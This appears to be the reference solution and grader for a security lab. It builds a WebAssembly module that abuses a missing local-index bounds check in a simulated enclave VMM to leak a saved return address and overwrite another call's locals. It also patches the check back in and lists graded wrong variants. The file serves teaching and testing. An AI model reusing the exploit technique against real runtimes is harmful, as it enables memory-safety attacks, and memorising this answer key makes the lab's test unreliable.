"""The solution of lab `sandbox`: two functions, of which one moves the other's locals; and the check put back."""

import re
from collections.abc import Callable

from wasmtime import wat2wasm

from enclave_sim.memory_map import region
from tests.labs.solutions.kernels import built_in_image, built_kernel
from tests.labs.solutions.solution import Files, Solution, Workplace, Wrong

CELL, CALL = 8, 32
VALUES, CALLS = region("values").base, region("calls").base
START_LOCALS = VALUES + CELL
CALLED_LOCALS = START_LOCALS + 2 * CELL
"""After the one local of _start and the cell between."""
SAVED_IP, SAVED_LOCALS = CALLS + CALL, CALLS + CALL + 2 * CELL
SOURCE = """
(module
  (import "aether" "emit_signal" (func $emit (param i32)))
  (func $f (local i64) (local.set MOVED (i64.const SECRET)))
  (func $g)
  (func (export "_start") (local i64)
    (call $emit (i32.const TOKEN))
    (call $g)
    (call $emit (i32.wrap_i64 (local.get LEAKED)))
    (call $f)
    (call $emit (i32.wrap_i64 (local.get 0)))))
"""
AFTER_INDEX = "    TRY(read_u32(d, &index));\n"
CHECK = "    REQUIRE(index < d->parameters.count + d->local_count, UNKNOWN_LOCAL, d->instruction);\n"


def number(place: Workplace, pattern: str) -> int:
    (found,) = re.findall(pattern, place.page)
    return int(found, 16)


def text(place: Workplace, leaked: int = SAVED_IP, moved: int = SAVED_LOCALS, **other: object) -> str:
    numbers = {
        "TOKEN": number(place, r"first signal is (0x[0-9a-f]+)\."),
        "SECRET": number(place, r"32 bits at (0x[0-9a-f]+),"),
        "LEAKED": (leaked - START_LOCALS) // CELL,
        "MOVED": (moved - CALLED_LOCALS) // CELL,
        **other,
    }
    found = SOURCE
    for name, value in numbers.items():
        found = found.replace(name, str(value))
    return found


def module(source: str) -> bytes:
    return bytes(wat2wasm(source))


def mended(place: Workplace, check: str = CHECK, header: bytes | None = None) -> bytes:
    source = place.start["instructions.c"].decode()
    local = source.index("static int local(")
    source = source[:local] + source[local:].replace(AFTER_INDEX, AFTER_INDEX + check, 1)
    return built_kernel(
        {"vmm/instructions.c": source.encode(), "vmm/vmm.h": place.start["vmm.h"] if header is None else header}
    )


def solve(place: Workplace) -> Files:
    return {"exploit.wasm": module(text(place)), "aether.elf": mended(place)}


def exploit(name: str, source: Callable[[Workplace], str], message: str) -> Wrong:
    return Wrong(name, lambda files, place: {**files, "exploit.wasm": module(source(place))}, message)


def kernel(name: str, image: Callable[[Workplace], bytes], message: str) -> Wrong:
    return Wrong(name, lambda files, place: {**files, "aether.elf": image(place)}, message)


SOLUTION = Solution(
    solve,
    (
        exploit("no exploit", lambda place: place.start["exploit.wat"].decode(), "does not use the hole"),
        exploit(
            "another fault",
            lambda place: text(place).replace("(func $f", "(func $h (i32.const 1)) (func $f", 1),
            "refuses it for another reason",
        ),
        exploit("another token", lambda place: text(place, TOKEN=7), "is not your token"),
        exploit("the caller of _start", lambda place: text(place, leaked=CALLS), "the same wherever your module"),
        exploit("another field", lambda place: text(place, leaked=SAVED_IP + CELL), "A return address moves with it"),
        exploit(
            "a place that no call has used",
            lambda place: text(place, leaked=CALLS + 2 * CALL + 3 * CELL),
            "the same wherever your module",
        ),
        exploit(
            "one cell too far",
            lambda place: text(place, SECRET=number(place, r"32 bits at (0x[0-9a-f]+),") + 8),
            "the word 8 bytes after it",
        ),
        exploit("the kernel's memory", lambda place: text(place, SECRET=region("data").base), "the guest ended by #PF"),
        exploit(
            "another call's locals", lambda place: text(place, moved=SAVED_LOCALS + CALL), "the same for any secret"
        ),
        kernel("not mended", lambda place: mended(place, ""), "still accepts a module"),
        kernel(
            "one too many",
            lambda place: mended(place, CHECK.replace("index < ", "index <= ")),
            "still accepts a module",
        ),
        kernel(
            "parameters forgotten",
            lambda place: mended(place, CHECK.replace("d->parameters.count + ", "")),
            "only locals which its function has",
        ),
        kernel(
            "another reason",
            lambda place: mended(place, CHECK.replace("UNKNOWN_LOCAL", "UNKNOWN_GLOBAL")),
            "for another reason",
        ),
        kernel("the built-in kernel", lambda _place: built_in_image(), "not a kernel of your vmm.h"),
    ),
)
